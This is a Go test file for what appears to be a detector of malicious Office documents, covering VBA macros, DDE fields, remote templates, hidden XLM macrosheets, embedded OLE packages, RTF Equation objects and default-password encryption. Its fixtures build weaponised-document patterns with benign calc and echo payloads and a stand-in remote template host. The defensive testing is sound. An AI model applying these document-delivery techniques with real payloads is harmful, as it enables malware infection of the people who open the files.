package office

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"math/rand"
	"strings"
	"testing"

	"github.com/sekisho/sekisho/internal/testutil/testdoc"
)

func TestDecompressRoundTrip(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	cases := [][]byte{
		[]byte("#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"),
		[]byte(strings.Repeat("Attribute VB_Name = \"Module1\"\r\n", 300)),
		bytes.Repeat([]byte{'a'}, 10000),
		[]byte(""),
	}
	b := make([]byte, 9000)
	for i := range b {
		b[i] = byte('a' + rng.Intn(3))
	}
	cases = append(cases, b)
	for i, c := range cases {
		got, err := Decompress(testdoc.Compress(c), 1<<20)
		if err != nil || !bytes.Equal(got, c) {
			t.Errorf("case %d: err %v, got %d bytes want %d", i, err, len(got), len(c))
		}
	}
}

// TestDecompressSpecExample is the example of MS-OVBA 3.2.3 (compressed
// container with copy tokens).
func TestDecompressSpecExample(t *testing.T) {
	in := []byte{0x01, 0x2F, 0xB0, 0x00, 0x23, 0x61, 0x61, 0x61, 0x62, 0x63, 0x64, 0x65, 0x82, 0x66, 0x00, 0x70,
		0x61, 0x67, 0x68, 0x69, 0x6A, 0x01, 0x38, 0x08, 0x61, 0x6B, 0x6C, 0x00, 0x30, 0x6D, 0x6E, 0x6F,
		0x70, 0x06, 0x71, 0x02, 0x70, 0x04, 0x10, 0x72, 0x73, 0x74, 0x75, 0x76, 0x10, 0x77, 0x78, 0x79,
		0x7A, 0x00, 0x3C}
	want := "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"
	got, err := Decompress(in, 1<<20)
	if err != nil || string(got) != want {
		t.Fatalf("got %q, %v", got, err)
	}
}

func TestDecompressBounded(t *testing.T) {
	c := testdoc.Compress(bytes.Repeat([]byte("x"), 100000))
	got, _ := Decompress(c, 1000)
	if len(got) != 1000 {
		t.Fatalf("got %d bytes", len(got))
	}
	if _, err := Decompress([]byte{0x02, 1, 2}, 100); err == nil {
		t.Fatal("bad signature accepted")
	}
}

func TestClassify(t *testing.T) {
	cases := []struct {
		code string
		want MacroClass
	}{
		{"", MacroNone},
		{"Sub Hello()\r\nMsgBox \"hi\"\r\nEnd Sub", MacroPresent},
		{"Sub AutoOpen()\r\nMsgBox \"hi\"\r\nEnd Sub", MacroAutoExec},
		{"Sub Document_Open()\r\nSet o = CreateObject(\"WScript.Shell\")\r\nEnd Sub", MacroAutoExecSuspicious},
		{testdoc.EmotetMacro, MacroAutoExecSuspicious},
		{"Sub CommandButton1_Click()\r\nShell \"calc\"\r\nEnd Sub", MacroPresent},
		{"' Sub AutoOpen() in a comment\r\nSub X()\r\nEnd Sub", MacroPresent},
	}
	for _, c := range cases {
		if got := Classify(c.code).Class; got != c.want {
			t.Errorf("%q: got %v want %v", c.code, got, c.want)
		}
	}
	obf := "Sub Auto_Open()\r\nx = " + strings.Repeat("Chr(65) & ", 30) + "\"\"\r\ny = StrReverse(\"exe.dmc\")\r\nEnd Sub"
	c := Classify(obf)
	if len(c.Obfuscation) < 2 {
		t.Errorf("obfuscation: %v", c.Obfuscation)
	}
}

func TestOLEVBA(t *testing.T) {
	// Word 97 layout: macros under Macros/VBA.
	streams := testdoc.VBAProjectStreams("Macros/", map[string]string{"ThisDocument": "Sub AutoOpen()\r\nCreateObject(\"WScript.Shell\").Run \"cmd /c calc\"\r\nEnd Sub\r\n", "Module1": "Sub Helper()\r\nEnd Sub\r\n"})
	streams["WordDocument"] = make([]byte, 64)
	doc := testdoc.CFB(streams)
	r := AnalyzeOLE(doc, Limits{})
	if r.Kind != "doc" || !r.VBA || r.Macro.Class != MacroAutoExecSuspicious || len(r.Modules) != 2 {
		t.Fatalf("report: kind %s vba %v class %v modules %d errs %v", r.Kind, r.VBA, r.Macro.Class, len(r.Modules), r.Errors)
	}
	// Without a usable dir stream the source is still found.
	streams["Macros/VBA/dir"] = []byte{1, 2, 3}
	r = AnalyzeOLE(testdoc.CFB(streams), Limits{})
	if r.Macro.Class != MacroAutoExecSuspicious {
		t.Fatalf("fallback: %v", r.Macro.Class)
	}
}

func TestBigStreamCFB(t *testing.T) {
	// a stream above the mini-stream cutoff
	code := "Sub Workbook_Open()\r\n" + strings.Repeat("' padding line\r\n", 600) + "Shell \"x\"\r\nEnd Sub\r\n"
	r := AnalyzeOLE(testdoc.VBAProject(map[string]string{"ThisWorkbook": code}), Limits{})
	if r.Macro.Class != MacroAutoExecSuspicious {
		t.Fatalf("class %v errs %v", r.Macro.Class, r.Errors)
	}
}

func openZip(t *testing.T, b []byte) *zip.Reader {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	return z
}

func TestOOXMLMacro(t *testing.T) {
	x := testdoc.XLSM(testdoc.VBAProject(map[string]string{"ThisWorkbook": testdoc.EmotetMacro}))
	r := AnalyzeOOXML(openZip(t, x), Limits{})
	if r.Kind != "xlsm" || !r.VBA || r.Macro.Class != MacroAutoExecSuspicious || !r.MacroTypes {
		t.Fatalf("%+v", r)
	}
}

func TestOOXMLFindings(t *testing.T) {
	ct := []byte(`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`)
	docx := testdoc.Zip(map[string][]byte{
		"[Content_Types].xml": ct,
		"word/document.xml": []byte(`<w:document><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p>` +
			`<w:fldSimple w:instr=" HYPERLINK &quot;x&quot; "/></w:body></w:document>`),
		"word/_rels/settings.xml.rels":   []byte(`<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`),
		"word/_rels/document.xml.rels":   []byte(`<Relationships><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://link.example/a" TargetMode="External"/></Relationships>`),
		"word/embeddings/oleObject1.bin": testdoc.CFB(map[string][]byte{"\x01Ole10Native": ole10Native("invoice.js", []byte("WScript.Echo(1)"))}),
	})
	r := AnalyzeOOXML(openZip(t, docx), Limits{})
	if r.Kind != "docx" || len(r.DDE) == 0 || !strings.Contains(r.DDE[0], "DDEAUTO") {
		t.Errorf("dde: %q kind %s", r.DDE, r.Kind)
	}
	if len(r.RemoteTemplate) != 1 || !strings.Contains(r.RemoteTemplate[0], "evil.example") {
		t.Errorf("template: %v", r.RemoteTemplate)
	}
	if len(r.URLs) != 2 {
		t.Errorf("urls: %v", r.URLs)
	}
	if len(r.OLEPackage) != 1 || r.OLEPackage[0] != "invoice.js" || len(r.Embedded) != 1 || string(r.Embedded[0].Data) != "WScript.Echo(1)" {
		t.Errorf("package: %v %v", r.OLEPackage, r.Embedded)
	}
}

func ole10Native(name string, data []byte) []byte {
	var b []byte
	b = append(b, 0, 0, 0, 0, 2, 0)
	b = append(b, name+"\x00"...)
	b = append(b, `C:\Users\a\`+name+"\x00"...)
	b = append(b, 0, 0, 3, 0)
	tmp := `C:\Temp\` + name + "\x00"
	b = binary.LittleEndian.AppendUint32(b, uint32(len(tmp)))
	b = append(b, tmp...)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(data)))
	b = append(b, data...)
	binary.LittleEndian.PutUint32(b, uint32(len(b)-4))
	return b
}

func TestXLMOOXML(t *testing.T) {
	x := testdoc.Zip(map[string][]byte{
		"[Content_Types].xml":        []byte(`<Types/>`),
		"xl/workbook.xml":            []byte(`<workbook><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/></sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>`),
		"xl/_rels/workbook.xml.rels": []byte(`<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="x/xlIntlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>`),
		"xl/worksheets/sheet1.xml":   []byte(`<worksheet/>`),
		"xl/macrosheets/sheet1.xml":  []byte(`<xm:macrosheet><sheetData><row><c><f>EXEC("calc.exe")</f></c><c><f>HALT()</f></c></row></sheetData></xm:macrosheet>`),
	})
	r := AnalyzeOOXML(openZip(t, x), Limits{})
	if !r.XLM || !r.XLMHidden || !r.XLMAutoOpen || r.Kind != "xlsm" || len(r.XLMCalls) == 0 {
		t.Fatalf("%+v", r)
	}
}

// biffRec builds one BIFF record.
func biffRec(typ uint16, d []byte) []byte {
	b := binary.LittleEndian.AppendUint16(nil, typ)
	b = binary.LittleEndian.AppendUint16(b, uint16(len(d)))
	return append(b, d...)
}

func boundsheet(name string, state, dt byte) []byte {
	d := []byte{0, 0, 0, 0, state, dt, byte(len(name)), 0}
	return biffRec(0x0085, append(d, name...))
}

func TestBIFFHiddenMacroSheet(t *testing.T) {
	wb := biffRec(0x0809, make([]byte, 16))
	wb = append(wb, boundsheet("Sheet1", 0, 0)...)
	wb = append(wb, boundsheet("Macro1", 2, 1)...)
	lbl := make([]byte, 16)
	lbl[0] = 0x20 // fBuiltin
	lbl[3] = 1
	lbl[15] = 0x01 // Auto_Open
	wb = append(wb, biffRec(0x0018, lbl)...)
	wb = append(wb, biffRec(0x000a, nil)...)
	r := AnalyzeOLE(testdoc.CFB(map[string][]byte{"Workbook": wb}), Limits{})
	if r.Kind != "xls" || !r.XLM || !r.XLMHidden || !r.XLMAutoOpen || len(r.XLMSheets) != 1 || r.XLMSheets[0] != "Macro1" {
		t.Fatalf("%+v", r)
	}
}

// TestVelvetSweatshopRC4 builds a FILEPASS record the way Excel does for
// RC4 (1.1) and RC4 CryptoAPI (x.2) with the default password.
func TestVelvetSweatshopRC4(t *testing.T) {
	salt := []byte("0123456789abcdef")
	verifier := []byte("fedcba9876543210")
	for _, pw := range []string{DefaultExcelPassword, "secret"} {
		// RC4 1.1
		ev, evh := rc4Enc(RC4Key(pw, salt, 0), verifier, md5sum(verifier))
		fp := []byte{1, 0, 1, 0, 1, 0}
		fp = append(append(append(fp, salt...), ev...), evh...)
		wb := append(biffRec(0x0809, make([]byte, 16)), biffRec(0x002f, fp)...)
		r := AnalyzeOLE(testdoc.CFB(map[string][]byte{"Workbook": wb}), Limits{})
		if !r.Encrypted || r.EncryptionType != "rc4" || r.DefaultPassword != (pw == DefaultExcelPassword) {
			t.Errorf("rc4 %s: %+v", pw, r)
		}
		// RC4 CryptoAPI, 128-bit
		ev2, evh2 := rc4Enc(CryptoAPIKey(pw, salt, 0, 128), verifier, sha1sum(verifier))
		hdr := make([]byte, 32)
		binary.LittleEndian.PutUint32(hdr[16:], 128)
		fp2 := []byte{1, 0, 4, 0, 2, 0}
		fp2 = binary.LittleEndian.AppendUint32(fp2, 0)
		fp2 = binary.LittleEndian.AppendUint32(fp2, uint32(len(hdr)))
		fp2 = append(fp2, hdr...)
		fp2 = binary.LittleEndian.AppendUint32(fp2, 16)
		fp2 = append(append(fp2, salt...), ev2...)
		fp2 = binary.LittleEndian.AppendUint32(fp2, 20)
		fp2 = append(fp2, evh2...)
		wb2 := append(biffRec(0x0809, make([]byte, 16)), biffRec(0x002f, fp2)...)
		r2 := AnalyzeOLE(testdoc.CFB(map[string][]byte{"Workbook": wb2}), Limits{})
		if !r2.Encrypted || r2.EncryptionType != "rc4-cryptoapi" || r2.DefaultPassword != (pw == DefaultExcelPassword) {
			t.Errorf("cryptoapi %s: %+v", pw, r2)
		}
	}
}

func TestEncryptedOOXMLStandard(t *testing.T) {
	salt := []byte("saltsaltsaltsalt")
	verifier := []byte("0123456789abcdef")
	for _, pw := range []string{DefaultExcelPassword, "other"} {
		key := StandardKey(pw, salt, 128)
		ev := aesECB(key, verifier)
		h := sha1sum(verifier)
		evh := aesECB(key, append(h, make([]byte, 12)...))
		info := []byte{3, 0, 2, 0, 0x24, 0, 0, 0}
		hdr := make([]byte, 32)
		binary.LittleEndian.PutUint32(hdr[8:], 0x660e)
		binary.LittleEndian.PutUint32(hdr[16:], 128)
		info = binary.LittleEndian.AppendUint32(info, uint32(len(hdr)))
		info = append(info, hdr...)
		info = binary.LittleEndian.AppendUint32(info, 16)
		info = append(append(info, salt...), ev...)
		info = binary.LittleEndian.AppendUint32(info, 20)
		info = append(info, evh...)
		r := AnalyzeOLE(testdoc.CFB(map[string][]byte{"EncryptionInfo": info, "EncryptedPackage": make([]byte, 100)}), Limits{})
		if !r.Encrypted || r.EncryptionType != "standard" || r.DefaultPassword != (pw == DefaultExcelPassword) {
			t.Errorf("standard %s: %+v", pw, r)
		}
	}
}

func TestRTFObject(t *testing.T) {
	pkg := ole10Native("run.bat", []byte("@echo off\r\n"))[4:]
	var ole1 []byte
	ole1 = binary.LittleEndian.AppendUint32(ole1, 0x0501)
	ole1 = binary.LittleEndian.AppendUint32(ole1, 2)
	ole1 = binary.LittleEndian.AppendUint32(ole1, 8)
	ole1 = append(ole1, "Package\x00"...)
	ole1 = binary.LittleEndian.AppendUint32(ole1, 0)
	ole1 = binary.LittleEndian.AppendUint32(ole1, 0)
	ole1 = binary.LittleEndian.AppendUint32(ole1, uint32(len(pkg)))
	ole1 = append(ole1, pkg...)
	hexd := ""
	for i, c := range ole1 {
		hexd += string("0123456789abcdef"[c>>4]) + string("0123456789abcdef"[c&15])
		if i%32 == 31 {
			hexd += "\r\n"
		}
	}
	rtf := `{\rtf1\ansi{\object\objemb{\*\objclass Package}\objw100\objh100{\*\objdata ` + hexd + `}}}`
	r := AnalyzeRTF([]byte(rtf), Limits{})
	if len(r.RTFObjects) == 0 || len(r.OLEPackage) != 1 || r.OLEPackage[0] != "run.bat" || len(r.Embedded) != 1 {
		t.Fatalf("%+v", r)
	}
	eq := `{\rtf1{\object\objupdate{\*\objclass Equation.3}{\*\objdata 0105000002000000}}}`
	if r := AnalyzeRTF([]byte(eq), Limits{}); !r.RTFExploitable {
		t.Fatalf("equation: %+v", r)
	}
}

// TestAgileDefaultPassword encrypts a package the agile way with
// "VelvetSweatshop" (the inverse of DecryptPackage) and checks it is
// recognised and decrypted for analysis.
func TestAgileDefaultPassword(t *testing.T) {
	plain := testdoc.XLSM(testdoc.VBAProject(map[string]string{"ThisWorkbook": testdoc.EmotetMacro}))
	info, pkg := agileEncrypt(t, plain, DefaultExcelPassword)
	r := AnalyzeOLE(testdoc.CFB(map[string][]byte{"EncryptionInfo": info, "EncryptedPackage": pkg}), Limits{})
	if !r.Encrypted || r.EncryptionType != "agile" || !r.DefaultPassword || len(r.Embedded) != 1 || !bytes.Equal(r.Embedded[0].Data, plain) {
		t.Fatalf("%+v", r)
	}
	info, pkg = agileEncrypt(t, plain, "real password")
	r = AnalyzeOLE(testdoc.CFB(map[string][]byte{"EncryptionInfo": info, "EncryptedPackage": pkg}), Limits{})
	if !r.Encrypted || r.DefaultPassword || len(r.Embedded) != 0 {
		t.Fatalf("other password: %+v", r)
	}
}

// memBound is a Memory of max bytes.
type memBound struct{ used, max int64 }

func (m *memBound) Reserve(n int64) bool {
	if m.used+n > m.max {
		return false
	}
	m.used += n
	return true
}
func (m *memBound) GiveBack(n int64) { m.used -= n }

// TestOOXMLMemory: zip members are read within Limits.Mem (issue 14: the
// bound of all scans together); a member it refuses is not read.
func TestOOXMLMemory(t *testing.T) {
	x := testdoc.XLSM(testdoc.VBAProject(map[string]string{"ThisWorkbook": testdoc.EmotetMacro}))
	m := &memBound{max: 1 << 30}
	r := AnalyzeOOXML(openZip(t, x), Limits{Mem: m})
	if !r.VBA || m.used <= 0 || m.used > int64(len(x))*1100 {
		t.Errorf("VBA %v, %d bytes held", r.VBA, m.used)
	}
	r = AnalyzeOOXML(openZip(t, x), Limits{Mem: &memBound{}})
	if r.VBA || len(r.Errors) == 0 || !strings.Contains(strings.Join(r.Errors, " "), "at its bound") {
		t.Errorf("nothing held, still read: VBA %v %q", r.VBA, r.Errors)
	}
}
